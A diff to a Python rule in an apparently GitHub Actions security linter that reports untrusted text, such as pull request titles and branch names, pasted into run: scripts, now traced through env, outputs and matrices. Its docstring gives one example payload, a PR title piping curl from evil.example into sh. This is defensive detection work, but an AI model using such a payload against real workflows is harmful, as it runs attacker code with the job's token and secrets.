@@ -1,9 +1,11 @@
 """Text that strangers write is put into a shell script as it is.
 
 ## What it does
-Reports `${{ … }}` in `run:` scripts (and in scripts given to `actions/github-script`) whose value anybody can
-choose: titles and bodies of issues and pull requests, branch names of forks, commit messages. Free-text inputs of
-manually started workflows are reported at a lower severity.
+Reports `${{ … }}` in `run:` scripts, and in inputs of actions that run them as code such as those of
+`actions/github-script`, whose value anybody can choose: titles and bodies of issues and pull requests, branch names
+of forks, commit messages. Texts are followed through `env`, outputs of steps and jobs, the matrix, and inputs of the
+repository's own actions and called workflows. Free-text inputs of manually started workflows are reported at a lower
+severity. Texts whose origin is not known are reported at level `pedantic`, those the project decides at `auditor`.
 
 ## Why it matters
 The runner pastes the text before the shell sees it. A pull request called `"; curl evil.example | sh #` runs that
@@ -49,7 +51,8 @@ jobs:
 
 ## Fix
 Passes the text through an environment variable, which the shell never reads as code. Safe inside double quotes.
-Outside of quotes the variable gets quotes, so that blanks no longer separate words: unsafe.
+Outside of quotes the variable gets quotes, so that blanks no longer separate words: unsafe. In PowerShell and in
+`actions/github-script` the variable is read as `$env:NAME` and `process.env.NAME`.
 
 ## References
 - [GitHub: script injections](https://docs.github.com/en/actions/concepts/security/script-injections)
@@ -60,129 +63,119 @@ Outside of quotes the variable gets quotes, so that blanks no longer separate wo
 - `poutine:injection`
 """
 
-import re
 from collections.abc import Iterator
 from typing import Final
 
-from rollsafe.artefacts.expressions import Expression, context_paths, find_expressions
-from rollsafe.artefacts.github_workflow import Job, Step, Workflow
+from rollsafe.artefacts.expressions import Expr, Expression, context_path, find_expressions, flowing
+from rollsafe.artefacts.github_workflow import Step
+from rollsafe.artefacts.recognition.code_inputs import code_inputs
 from rollsafe.artefacts.recognition.untrusted import Trust, trust_of
 from rollsafe.formats.nodes import Scalar
-from rollsafe.formats.yaml_edit import add_entry
-from rollsafe.rules import Confidence, Edit, Finding, Fix, Level, Safety, Severity, Span, rule
+from rollsafe.formats.scalar_text import script_offsets
+from rollsafe.rules import Confidence, Finding, Level, Related, Safety, Severity, Span, rule
+from rollsafe.rules.script_variables import PastedText, pass_as_variable
+from rollsafe.workspace.graph import Graph
+from rollsafe.workspace.untrusted_text import Origin, Whose, origin_of
 
-_NOT_WORD: Final = re.compile(r"[^A-Z0-9]+")
-_DROPPED: Final = frozenset({"GITHUB", "EVENT", "INPUTS"})
+_ZIZMOR: Final = ("zizmor:template-injection",)
+_DETAIL: Final = (
+    "the runner puts the text in before the shell reads the script, so quotes in it end quotes and "
+    "commands in it run with the job's token and secrets"
+)
+_WHO: Final = {Whose.ANYBODY: "whoever opens it", Whose.DISPATCHER: "whoever starts the workflow"}
 
 
 @rule(severity=Severity.ERROR, since="0.1.0", fix=Safety.SAFE)
-def check(step: Step) -> Iterator[Finding]:
-    """Yield a finding for each expression a stranger can fill."""
-    script = step.script_node
-    if script is None or "${{" not in script.text or step.is_disabled:
+def check(step: Step, graph: Graph) -> Iterator[Finding]:
+    """Yield a finding for each text that is pasted into code."""
+    for scalar in _scripts(step):
+        if "${{" not in scalar.text or step.is_disabled:
+            continue
+        for expression in find_expressions(scalar.text):
+            if not expression.problems:
+                yield from _of_expression(step, scalar, expression, graph)
+
+
+def _scripts(step: Step) -> Iterator[Scalar]:
+    if step.run is not None:
+        yield step.run
         return
-    for expression in find_expressions(script.text):
-        found = _untrusted(step, expression)
-        if found is not None:
-            path, trust = found
-            yield _finding(step, script, expression, path, trust)
+    for name in code_inputs(step.uses_text):
+        node = step.input(name)
+        if isinstance(node, Scalar):
+            yield node
 
 
-def _untrusted(step: Step, expression: Expression) -> tuple[str, Trust] | None:
-    """Return the context a stranger decides and who that is; a mere comparison is none."""
-    whole = [path for path, node in context_paths(expression.root) if node is expression.root]
-    paths = whole or [path for path, _ in context_paths(expression.root)]
-    for path in paths:
-        trust = trust_of(path)
-        if trust is Trust.ANYBODY and not whole and _only_compares(expression):
-            continue
-        if trust is Trust.DISPATCHER and (not whole or not _is_free_text(step, path[-1])):
-            continue
-        if trust is not None:
-            return ".".join(path), trust
-    return None
+def _of_expression(step: Step, scalar: Scalar, expression: Expression, graph: Graph) -> Iterator[Finding]:
+    found = [(access, origin_of(access, step, graph)) for access in flowing(expression.root)]
+    chosen = [(access, origin) for access, origin in found if origin.whose > Whose.FIXED]
+    pasted = PastedText(step, scalar, expression)
+    if not chosen:
+        yield _harmless(pasted)
+    for access, origin in chosen:
+        yield _finding(pasted, access, origin, is_only=len(chosen) == 1)
 
 
-def _only_compares(expression: Expression) -> bool:
-    return type(expression.root).__name__ in ("Comparison", "Not")
-
-
-def _is_free_text(step: Step, name: str) -> bool:
-    """Say whether an input can hold any text: not a choice, a boolean, a number or an environment."""
-    owner = step.owner
-    if not isinstance(owner, Job):
-        return False
-    workflow: Workflow = owner.workflow
-    trigger = workflow.triggers.get("workflow_dispatch")
-    declared = trigger.inputs.get(name) if trigger is not None else None
-    return declared is not None and (declared.text_at("type") or "string") == "string"
-
-
-def _finding(step: Step, script: Scalar, expression: Expression, path: str, trust: Trust) -> Finding:
-    place = Span(step.offsets(expression.start), step.offsets(expression.end))
-    anybody = trust is Trust.ANYBODY
-    who = "whoever opens it" if anybody else "whoever starts the workflow"
-    label = f"`{step.name}`" if step.name else f"step {step.index + 1}"
+def _harmless(pasted: PastedText) -> Finding:
     return Finding(
-        place,
-        f"`{path}` is pasted into the script of {label}: {who} writes shell here",
-        fixes=tuple(_fixes(step, script, expression, place)),
-        severity=None if anybody else Severity.WARNING,
-        confidence=Confidence.HIGH if anybody else Confidence.MEDIUM,
-        level=None if anybody or step.uses is None else Level.PEDANTIC,
-        equivalents=None if anybody else ("zizmor:template-injection",),
-        detail="the runner puts the text in before the shell reads the script, so quotes in it end quotes and "
-        "commands in it run with the job's token and secrets",
+        pasted.place,
+        f"`{pasted.text}` is pasted into the script of {_label(pasted.step)} as code",
+        fixes=lambda: tuple(pass_as_variable(pasted)),
+        severity=Severity.INFO,
+        level=Level.AUDITOR,
+        equivalents=_ZIZMOR,
+        detail="nobody outside of the project decides this text; a variable cannot become code whatever it holds",
     )
 
 
-def _fixes(step: Step, script: Scalar, expression: Expression, place: Span) -> Iterator[Fix]:
-    shared = not step.start <= script.start < step.end
-    if shared or step.run is not script or step.shell not in ("", "bash", "sh") or script.block == ">":
-        return
-    source = step.file.slice(place)
-    quote = _quote_before(script.text, expression.start)
-    if quote == "'" or not (source.startswith("${{") and source.endswith("}}")):
-        return
-    name = _variable(expression, source)
-    value = f"${{{name}}}" if quote == '"' else f'"${{{name}}}"'
-    if step.file.text[script.start] == '"':
-        value = value.replace('"', '\\"')
-    env = _environment(step, name, source)
-    if env is None:
-        return
-    same = [
-        Span(step.offsets(other.start), step.offsets(other.end))
-        for other in find_expressions(script.text)
-        if step.file.slice(Span(step.offsets(other.start), step.offsets(other.end))) == source
-        and _quote_before(script.text, other.start) == quote
-    ]
-    edits = tuple(Edit(span, value) for span in same)
-    safety = Safety.SAFE if quote == '"' else Safety.UNSAFE
-    yield Fix(f"Pass it through the variable `{name}`", safety, edits=(*edits, env))
+def _finding(pasted: PastedText, access: Expr, origin: Origin, *, is_only: bool) -> Finding:
+    step, whose = pasted.step, origin.whose
+    at = script_offsets(step.file.text, pasted.scalar)
+    place = pasted.place if is_only else Span(at(access.start), at(access.end))
+    named = ".".join(context_path(access) or (pasted.text,))
+    source = ".".join(origin.path) or named
+    through = f" through `{named}`" if source != named else ""
+    who = _WHO.get(whose)
+    tail = f"{who} writes {_language(step)} here" if who else "whoever decides it writes code here"
+    return Finding(
+        place,
+        f"`{source}` is pasted into the script of {_label(step)}{through}: {tail}",
+        fixes=lambda: tuple(pass_as_variable(pasted)),
+        related=tuple(Related(hop.file, hop.where, "the text comes through here") for hop in origin.hops[:4]),
+        severity=_severity(whose),
+        confidence=Confidence.HIGH if whose is Whose.ANYBODY else Confidence.MEDIUM,
+        level=_level(step, whose),
+        equivalents=_equivalents(origin),
+        detail=_DETAIL,
+    )
 
 
-def _quote_before(script: str, at: int) -> str:
-    """Return the quote that is open at an offset of a script's line, or an empty string."""
-    line = script[script.rfind("\n", 0, at) + 1 : at]
-    quote = ""
-    for index, char in enumerate(line):
-        escaped = index > 0 and line[index - 1] == "\\" and quote != "'"
-        if char in "\"'" and not escaped:
-            quote = "" if quote == char else (quote or char)
-    return quote
+def _severity(whose: Whose) -> Severity | None:
+    if whose is Whose.ANYBODY:
+        return None
+    return Severity.WARNING if whose is Whose.DISPATCHER else Severity.INFO
 
 
-def _variable(expression: Expression, source: str) -> str:
-    words = [word for word in _NOT_WORD.split(source.upper()) if word and word not in _DROPPED]
-    return "_".join(words[-4:]) or "VALUE"
+def _level(step: Step, whose: Whose) -> Level | None:
+    if whose is Whose.ANYBODY or (whose is Whose.DISPATCHER and step.uses is None):
+        return None
+    return Level.PEDANTIC
 
 
-def _environment(step: Step, name: str, value: str) -> Edit | None:
-    """Return the edit that gives the step the variable; None where it has another of that name."""
-    env = step.env_node
-    if env is None:
-        if step.node.flow:
-            return None
-        return add_entry(step.file.text, step.node, "env", f"{name}: {value}")
-    return None if env.entry(name) is not None or env.flow else add_entry(step.file.text, env, name, value)
+def _equivalents(origin: Origin) -> tuple[str, ...] | None:
+    """Return what the occurrence is called elsewhere; most tools know direct texts of strangers only."""
+    if origin.whose is not Whose.ANYBODY or origin.hops:
+        return _ZIZMOR
+    return (
+        None
+        if trust_of(origin.path) is Trust.ANYBODY and len(origin.path) > 2
+        else (*_ZIZMOR, "poutine:injection")
+    )
+
+
+def _language(step: Step) -> str:
+    return "shell" if step.run is not None else "code"
+
+
+def _label(step: Step) -> str:
+    return f"`{step.name}`" if step.name else f"step {step.index + 1}"
